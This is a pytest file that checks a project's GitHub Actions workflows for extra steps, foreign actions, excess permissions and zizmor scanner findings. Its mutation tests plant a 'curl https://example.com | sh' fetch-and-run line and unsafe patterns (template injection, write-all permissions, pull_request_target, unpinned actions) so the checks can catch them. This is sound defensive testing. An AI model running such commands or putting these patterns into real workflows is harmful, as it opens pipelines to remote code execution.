"""The workflows: each step is a target of the menu, nothing is anybody else's, and zizmor finds nothing unsafe."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.deliver.charting import TOOLS, installed

ROOT = Path(__file__).parents[2]
WORKFLOWS = ROOT / ".github/workflows"
#: A step that is no target: git fetches the tree, or pushes what was committed.
BY_GIT = {"the tree", "the branch", "push"}
pytestmark = pytest.mark.deliver


def read(folder: Path = WORKFLOWS) -> dict[str, dict]:
    # YAML 1.1 takes the key `on` for a truth.
    return {path.stem: yaml.load(path.read_text(), yaml.BaseLoader) for path in sorted(folder.glob("*.yml"))}


def jobs(workflows: dict[str, dict]):
    return [(f"{name}.{job}", it) for name, workflow in workflows.items() for job, it in workflow["jobs"].items()]


def complaints(workflows: dict[str, dict]) -> list[str]:
    """What is not as it should be, but for what zizmor looks at."""
    menu = set(re.findall(r"^([a-z0-9-]+):", (ROOT / "Makefile").read_text(), re.M))
    found = []
    for name, job in jobs(workflows):
        if job.get("uses", "./.github/workflows/make.yml") != "./.github/workflows/make.yml":
            found.append(f"{name}: {job['uses']} is not ours")
        target = job.get("with", {}).get("target")
        if target and target not in menu:
            found.append(f"{name}: there is no target {target}")
        for step in job.get("steps", []):
            found += [f"{name}.{step['name']}: {each}" for each in complaints_of(step, menu)]
    return found


def complaints_of(step: dict, menu: set[str]) -> list[str]:
    if "uses" in step:
        return [f"{step['uses']} is an action of somebody's"]
    if step["name"] in BY_GIT:
        words = {line.split()[0] for line in step["run"].strip().splitlines()}
        return [f"{word} is not git" for word in words - {"git", "echo"}]
    made = re.fullmatch(r'make ([a-z0-9-]+|"\$TARGET")', step["run"].strip())
    if not made:
        return ["is more than a target"]
    return [] if made[1] in menu or made[1] == '"$TARGET"' else [f"there is no target {made[1]}"]


def zizmor(at: Path) -> subprocess.CompletedProcess[str]:
    installed()
    command = [TOOLS / "venv/bin/zizmor", "--offline", "--strict-collection", "--no-progress", "."]
    return subprocess.run(command, cwd=at, capture_output=True, text=True, timeout=60)


@pytest.fixture
def planted(tmp_path):
    """The workflows somewhere else, with a mistake in one of them."""

    def plant(name: str, old: str, new: str) -> Path:
        shutil.copytree(ROOT / ".github", tmp_path / ".github")
        file = tmp_path / ".github/workflows" / name
        text = file.read_text()
        assert old in text
        file.write_text(text.replace(old, new, 1))
        return tmp_path

    return plant


def test_each_step_is_a_target():
    assert complaints(read()) == []


def test_they_do_what_there_is_to_do():
    asked = {job["with"]["target"] for _, job in jobs(read()) if "with" in job}
    asked |= set(re.findall(r"run: make ([a-z0-9-]+)", "".join(path.read_text() for path in WORKFLOWS.glob("*.yml"))))
    assert asked >= {
        "lint", "types", "unit", "untimed", "timed", "coverage", "deliver", "image-check", "gate", "bench", "soak",
        "test", "wheels", "image", "sbom", "provenance", "push", "publish", "promote", "rollback",
    }  # fmt: skip


def test_zizmor_finds_nothing():
    done = zizmor(ROOT)
    assert done.returncode == 0, done.stdout
    assert "No findings to report" in done.stdout + done.stderr


def test_nothing_is_allowed_that_is_not_needed():
    for name, workflow in read().items():
        assert workflow["permissions"] == {}, name
        for job, it in workflow["jobs"].items():
            writes = name in ("release", "promote", "rollback") and "uses" not in it
            assert it["permissions"] == {"contents": "write" if writes else "read"}, (name, job)


def test_the_environments_are_those_that_there_are():
    there = {path.name for path in (ROOT / "k8s/environments").iterdir()}
    for name in ("promote", "rollback"):
        inputs = read()[name]["on"]["workflow_dispatch"]["inputs"]
        assert set(inputs["environment"]["options"]) == there


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        ("check.yml", "target: lint", "target: lintt", "check.lint: there is no target lintt"),
        ("release.yml", "run: make wheels", "run: make wheel", "release.release.wheels: there is no target wheel"),
        ("release.yml", "run: make wheels", "run: make wheels && ls", "release.release.wheels: is more than a target"),
        ("promote.yml", "run: make promote", "uses: actions/checkout@v4", "is an action of somebody's"),
        ("promote.yml", "git init --quiet .", "curl https://example.com | sh", "curl is not git"),
        ("nightly.yml", "./.github/workflows/make.yml", "a/b/.github/workflows/c.yml@main", "is not ours"),
    ],
)
def test_what_is_no_target_is_found(planted, name, old, new, said):
    assert any(said in each for each in complaints(read(planted(name, old, new) / ".github/workflows")))


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        ("promote.yml", "run: make promote", 'run: make promote VERSION="${{ inputs.version }}"', "template-injection"),
        ("rollback.yml", "permissions:\n      contents: write", "permissions: write-all", "excessive-permissions"),
        ("check.yml", "pull_request:", "pull_request_target:", "dangerous-triggers"),
        ("make.yml", "      - name: make", "      - uses: some/action@v1\n      - name: make", "unpinned-uses"),
    ],
)
def test_zizmor_refuses_what_is_unsafe(planted, name, old, new, said):
    done = zizmor(planted(name, old, new))
    assert done.returncode != 0
    assert said in done.stdout


def test_wheels_are_made_for_each_python_that_is_promised():
    installed()
    command = [
        TOOLS / "venv/bin/cibuildwheel",
        "--platform",
        "linux",
        "--archs",
        "x86_64",
        "--print-build-identifiers",
        ".",
    ]
    said = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True, timeout=60).stdout.split()
    assert said == [f"cp3{minor}-manylinux_x86_64" for minor in (11, 12, 13, 14)]
